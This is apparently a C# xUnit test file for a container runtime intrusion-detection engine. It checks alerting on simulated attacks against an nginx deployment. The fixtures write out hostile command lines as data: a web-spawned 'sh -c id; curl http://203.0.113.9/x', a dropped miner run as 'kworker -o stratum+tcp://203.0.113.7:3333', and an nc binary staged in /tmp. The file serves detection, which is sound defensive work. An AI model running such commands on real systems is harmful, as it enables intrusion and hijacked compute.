using Runtime.Collector.Baselines;
using Runtime.Collector.Detection;
using Runtime.Collector.Incidents;
using Runtime.Collector.Ingest;
using Xunit;

namespace Runtime.Collector.Tests.Scopes;

/// <summary>Attacks, and what only looks like one, told by a deployment that has learnt.</summary>
public sealed class EngineScenarioTests
{
    [Fact]
    public void Shell_UnderALockedWebServer_IsOneAlertThatGrows()
    {
        var web = new EngineWeb().Locked();
        var replica = web.Replicas[0];
        var shell = web.Builder.Process("/bin/sh", replica.Nginx, flags: ProcessFlags.NetworkFacing, arguments: ["sh", "-c", "id; curl http://203.0.113.9/x"]);
        var first = web.Apply(web.Builder.Exec(replica.Container, shell));
        var alert = Assert.Single(first.Alerts);
        Assert.Equal("/bin/sh was started by nginx in shop/web: never seen in 72 h on 2 replicas", alert.Title);
        Assert.Equal(Severity.High, alert.Severity);
        Assert.Equal((1, 1), (alert.Revision, alert.AlertedRevision));
        Assert.Equal("/bin/sh > /usr/sbin/nginx > /bin/sh", alert.Cause);
        Assert.Contains("T1190", alert.Techniques);

        var id = web.Builder.Process("/usr/bin/id", shell, flags: ProcessFlags.NetworkFacing);
        Assert.Empty(web.Apply(web.Builder.Exec(replica.Container, id)).Alerts);
        var curl = web.Builder.Process("/usr/bin/curl", shell, flags: ProcessFlags.NetworkFacing);
        web.Apply(web.Builder.Exec(replica.Container, curl));
        web.Apply(web.Builder.Connect(replica.Container, curl, "203.0.113.9", 80));
        var incident = Assert.Single(web.Incidents);
        Assert.Equal(4, incident.DeviationIds.Count);
        Assert.Equal(["web-1"], incident.Pods);
        Assert.Contains("◀ new", incident.ProcessTree, StringComparison.Ordinal);
        Assert.Contains("      /usr/bin/curl", incident.ProcessTree, StringComparison.Ordinal);

        // Nothing below an alert is learnt, however often it happens.
        for (var hour = 0; hour < 12; hour++)
        {
            web.Serve(1);
            web.Apply(web.Builder.Exec(replica.Container, web.Builder.Process("/usr/bin/curl", shell, flags: ProcessFlags.NetworkFacing)));
        }

        Assert.Null(web.Item("exec", "/usr/bin/curl"));
        Assert.Single(web.Incidents);
    }

    [Fact]
    public void Script_ThatIsNew_BelowAServerThatRunsScripts_IsNoShellOfAServer()
    {
        var web = new EngineWeb().Locked(hours: 180);
        var first = Assert.Single(web.Apply(web.Builder.Exec(web.Replicas[0].Container, Script("/srv/jobs/orders.py"))).Alerts);
        web.Engine.ApproveIncident(first.Id, "anna", "it runs jobs now", web.Builder.Now);
        Assert.Empty(web.Apply(web.Builder.Exec(web.Replicas[0].Container, Script("/srv/jobs/invoices.py"))).Alerts);
        Assert.Single(web.Apply(web.Builder.Exec(web.Replicas[0].Container, Script("/tmp/x.py"))).Alerts);

        IReadOnlyList<ProcessInfo> Script(string path) => web.Builder.Process("/usr/bin/python3", web.Replicas[0].Nginx, flags: ProcessFlags.NetworkFacing, script: path);
    }

    [Fact]
    public void Miner_Dropped_IsCriticalAndJoinsTheFileThatWasWritten()
    {
        var web = new EngineWeb().Locked();
        var replica = web.Replicas[1];
        var shell = web.Builder.Process("/bin/sh", replica.Nginx, flags: ProcessFlags.NetworkFacing);
        web.Apply(web.Builder.Exec(replica.Container, shell));
        web.Apply(web.Builder.File(replica.Container, shell, "/tmp/.x/kworker", FileOperation.Create, flags: FileFlags.Executable | FileFlags.UpperLayer));

        // It detaches itself: init is its parent, and only the file leads back.
        var miner = web.Builder.Process("/tmp/.x/kworker", replica.Entrypoint, flags: ProcessFlags.UpperLayer | ProcessFlags.NetworkFacing, arguments: ["kworker", "-o", "stratum+tcp://203.0.113.7:3333"]);
        var started = web.Apply(web.Builder.Exec(replica.Container, miner));
        Assert.Equal(Severity.Critical, Assert.Single(started.Alerts).Severity);
        web.Apply(web.Builder.Connect(replica.Container, miner, "203.0.113.7", 3333));
        web.Apply(web.Builder.FirstBytes(replica.Container, miner, "203.0.113.7", 3333, "stratum"));

        var incident = Assert.Single(web.Incidents);
        Assert.Contains("T1496.001", incident.Techniques);
        Assert.Equal(["miner_arguments", "stratum", "upper_layer_exec_by_server"], web.Deviations.Where(deviation => deviation.Kind == "tier0").Select(deviation => deviation.Key.Split('|')[0]).Order());
        Assert.Null(web.Item("exec", "/tmp/.x/kworker"));
        Assert.Equal("/tmp/.x/kworker speaks Stratum, the protocol of mining pools, with 203.0.113.7:3333, in shop/web", incident.Title);
    }

    [Fact]
    public void Miner_FromBirth_AlertsInTheFirstSecond()
    {
        var web = new EngineWeb();
        var container = ObservationBuilder.Container("c1", "web-1");
        var miner = web.Builder.Process("/usr/sbin/nginx");
        web.Apply(web.Builder.Exec(container, miner));
        web.Apply(web.Builder.Connect(container, miner, "203.0.113.7", 443));
        Assert.Empty(web.Alerts);
        var alert = Assert.Single(web.Apply(web.Builder.FirstBytes(container, miner, "203.0.113.7", 443, "stratum")).Alerts);
        Assert.Equal(Severity.Critical, alert.Severity);
    }

    [Fact]
    public void MinerWords_EchoedOrGrepped_NeverAlert()
    {
        var web = new EngineWeb().Locked();
        var replica = web.Replicas[0];
        web.Apply(web.Builder.Exec(replica.Container, web.Builder.Process("/bin/echo", replica.Entrypoint, arguments: ["echo", "xmrig"])));
        web.Apply(web.Builder.Exec(replica.Container, web.Builder.Process("/bin/grep", replica.Entrypoint, arguments: ["grep", "stratum+tcp", "/var/log/x"])));
        Assert.Empty(web.Alerts);
        Assert.DoesNotContain(web.Deviations, deviation => deviation.Kind == "tier0");
    }

    [Fact]
    public void Egress_NewPeerOfAnExistingServer_IsToldButDoesNotAlert()
    {
        var web = new EngineWeb().Locked();
        var outcome = web.Apply(web.Builder.Connect(web.Replicas[0].Container, web.Replicas[0].Nginx, "203.0.113.9", 443, error: 111));
        var deviation = Assert.Single(outcome.Deviations);
        Assert.Equal("egress", deviation.Kind);
        Assert.Equal("/usr/sbin/nginx connected to 203.0.113.9:443/tcp (failed, errno 111) in shop/web: never seen in 72 h on 2 replicas", deviation.Title);
        Assert.Equal(Severity.Low, deviation.Severity);
        Assert.Empty(outcome.Alerts);
        Assert.Equal(0, Assert.Single(outcome.Incidents).AlertedRevision);
    }

    [Fact]
    public void Session_ThatDropsAndRunsAMiner_Alerts()
    {
        var web = new EngineWeb().Locked(hours: 190);
        var replica = web.Replicas[0];
        var bash = web.Builder.Process("/bin/bash", phase: Phase.Session);
        Assert.Empty(web.Apply(web.Builder.Exec(replica.Container, bash)).Alerts);
        var tool = web.Builder.Process("/tmp/t", bash, Phase.Session, ProcessFlags.UpperLayer);
        web.Apply(web.Builder.Exec(replica.Container, tool));
        web.Apply(web.Builder.FirstBytes(replica.Container, tool, "203.0.113.7", 3333, "stratum"));

        // First by its weight (medium), then for what it speaks (critical).
        Assert.Equal([Severity.High, Severity.Critical], web.Alerts.Select(alert => alert.Severity));
        Assert.Single(web.Incidents);
    }

    [Fact]
    public void Rollout_NewImage_IsOnProbationAndItsOwnProgramsDoNotAlert()
    {
        var web = new EngineWeb().Locked();
        web.Replicas.Clear();
        foreach (var n in new[] { 3, 4 })
        {
            var replica = web.Start("c" + n, "web-" + n, digest: "sha256:bbbb");
            web.Apply(web.Builder.Exec(replica.Container, web.Builder.Process("/usr/bin/envsubst", replica.Entrypoint, Phase.Init)));
            web.Apply(web.Builder.Exec(replica.Container, web.Builder.Process("/bin/sh", replica.Nginx, flags: ProcessFlags.NetworkFacing)));
        }

        Assert.Empty(web.Alerts);
        Assert.Equal(BaselineState.Reopened, web.State(KindGroup.Process));
        Assert.Contains("a new image is on probation", web.View(KindGroup.Process).WaitsFor, StringComparison.Ordinal);
        Assert.Equal("learned", web.Item("exec", "/usr/bin/envsubst")!.State);
        Assert.Equal(["docker.io/library/nginx:1.27@sha256:aaaa", "docker.io/library/nginx:1.27@sha256:bbbb"], web.Engine.View(web.Builder.Now).Images);

        // An exec of what is not of the image stays what it is.
        var dropped = web.Builder.Process("/opt/x", web.Replicas[0].Nginx, flags: ProcessFlags.UpperLayer | ProcessFlags.NetworkFacing);
        Assert.Single(web.Apply(web.Builder.Exec(web.Replicas[0].Container, dropped)).Alerts);
        web.Serve(25);
        Assert.Equal(BaselineState.Locked, web.State(KindGroup.Process));
    }

    [Fact]
    public void Rollback_ToAKnownImage_NeedsNoProbation()
    {
        var web = new EngineWeb().Locked();
        web.Start("c3", "web-3", digest: "sha256:bbbb");
        web.Serve(80);
        web.Start("c4", "web-4", digest: "sha256:aaaa");
        Assert.Equal(BaselineState.Locked, web.State(KindGroup.Process));
    }

    [Fact]
    public void Restart_OfALockedDeployment_IsNoNews()
    {
        var web = new EngineWeb().Locked();
        web.Apply(web.Builder.Exit(web.Replicas[0].Container, web.Replicas[0].Entrypoint));
        web.Replicas.RemoveAt(0);
        web.Start("c9", "web-9");
        web.Serve(5);
        Assert.Empty(web.Outcomes);
        Assert.Equal(2, web.Engine.View(web.Builder.Now).Replicas);
    }

    [Fact]
    public void Alert_InAMilderState_TakesBackWhatItLetIn()
    {
        // Provisional: what is new is learnt at once.
        var web = new EngineWeb();
        web.Start("c1", "web-1");
        web.Start("c2", "web-2");
        web.Serve(20);
        Assert.Equal(BaselineState.Provisional, web.State(KindGroup.Process));
        var replica = web.Replicas[0];
        var convert = web.Builder.Process("/usr/bin/convert", replica.Nginx);
        web.Apply(web.Builder.Exec(replica.Container, convert));
        Assert.Equal("learned", web.Item("exec", "/usr/bin/convert")!.State);
        web.Apply(web.Builder.FirstBytes(replica.Container, convert, "203.0.113.7", 443, "stratum"));
        Assert.Single(web.Alerts);
        Assert.Equal("pending", web.Item("exec", "/usr/bin/convert")!.State);

        // Nor does a quorum make it harmless: a person must.
        foreach (var other in web.Replicas)
        {
            web.Serve(3);
            web.Apply(web.Builder.Exec(other.Container, web.Builder.Process("/usr/bin/convert", other.Nginx)));
        }

        Assert.Equal("pending", web.Item("exec", "/usr/bin/convert")!.State);
    }

    [Fact]
    public void Miner_BelowAShellThatWasOddWhileLearning_IsAnAlertOfItsOwnThatShowsTheMiner()
    {
        var web = new EngineWeb();
        foreach (var n in new[] { 1, 2 })
        {
            var started = web.Start("c" + n, "web-" + n);
            for (var i = 0; i < 6; i++)
            {
                web.Apply(web.Builder.Exec(started.Container, web.Builder.Process("/bin/order", started.Nginx, flags: ProcessFlags.NetworkFacing, arguments: ["sh", "order"])));
                web.Apply(web.Builder.Exec(started.Container, web.Builder.Process("/bin/sh", started.Nginx, flags: ProcessFlags.NetworkFacing)));
            }
        }

        var learning = Assert.Single(web.Incidents);
        Assert.Equal(0, learning.AlertedRevision);
        web.Serve(72);
        Assert.Equal(BaselineState.Locked, web.State(KindGroup.Process));
        Assert.Empty(web.Alerts);

        var replica = web.Replicas[0];
        var shell = web.Builder.Process("/bin/sh", replica.Nginx, flags: ProcessFlags.NetworkFacing);
        web.Apply(web.Builder.Exec(replica.Container, shell));
        var attack = web.Builder.Now;
        web.Apply(web.Builder.File(replica.Container, shell, "/tmp/.cache-update", FileOperation.ChmodExecutable, flags: FileFlags.Executable | FileFlags.UpperLayer));
        var miner = web.Builder.Process("/tmp/.cache-update", shell, flags: ProcessFlags.UpperLayer | ProcessFlags.NetworkFacing);
        web.Apply(web.Builder.Exec(replica.Container, miner));
        web.Apply(web.Builder.FirstBytes(replica.Container, miner, "127.0.0.1", 3333, "stratum"));

        var alert = web.Alerts.Last();
        Assert.Equal(Severity.Critical, alert.Severity);
        Assert.NotEqual(learning.Id, alert.Id);
        Assert.Single(web.Alerts.Select(told => told.Id).Distinct());
        Assert.StartsWith("/tmp/.cache-update, a file written after the container started", web.Alerts.First(told => told.Severity == Severity.Critical).Title, StringComparison.Ordinal);
        Assert.StartsWith("/tmp/.cache-update speaks Stratum", alert.Title, StringComparison.Ordinal);
        Assert.Contains(alert.ProcessTree.Split('\n'), line => line.Contains("/tmp/.cache-update", StringComparison.Ordinal) && line.EndsWith("◀ new", StringComparison.Ordinal));
        Assert.Equal(attack, alert.FirstSeen);
        Assert.True(alert.Count <= 5, $"counts {alert.Count}");
    }

    [Theory]
    [InlineData((int)Phase.Steady)]
    [InlineData((int)Phase.Init)]
    public void Worker_ThatRunsWhatASessionDropped_AlertsHoweverMuchTheSessionDid(int phase)
    {
        // A worker that starts programs all the time counts as starting for minutes; it locks after its first day, when the bar is at its highest.
        var web = new EngineWeb().Locked(hours: 36);
        var replica = web.Replicas[0];
        var session = web.Builder.Process("/bin/sh", phase: Phase.Session);
        web.Apply(web.Builder.Exec(replica.Container, session));
        web.Apply(web.Builder.Exec(replica.Container, web.Builder.Process("/bin/cp", session, Phase.Session)));
        web.Apply(web.Builder.File(replica.Container, session, "/tmp/nc", FileOperation.Create, flags: FileFlags.Executable));
        web.Apply(web.Builder.File(replica.Container, session, "/tmp/job", FileOperation.Create));
        web.Apply(web.Builder.Exec(replica.Container, web.Builder.Process("/bin/chmod", session, Phase.Session)));
        web.Apply(web.Builder.File(replica.Container, session, "/tmp/job", FileOperation.ChmodExecutable));
        Assert.Empty(web.Alerts);

        var job = web.Builder.Process("/tmp/nc", replica.Entrypoint, (Phase)phase, ProcessFlags.UpperLayer, script: "/tmp/job");
        var alert = Assert.Single(web.Apply(web.Builder.Exec(replica.Container, job)).Alerts);
        Assert.True(alert.Severity >= Severity.Medium, $"severity {alert.Severity}");
        Assert.StartsWith("/tmp/job (nc) was started by sh", alert.Title, StringComparison.Ordinal);
        Assert.Contains("/tmp/nc", alert.ProcessTree, StringComparison.Ordinal);
        Assert.Single(web.Incidents);
    }
}
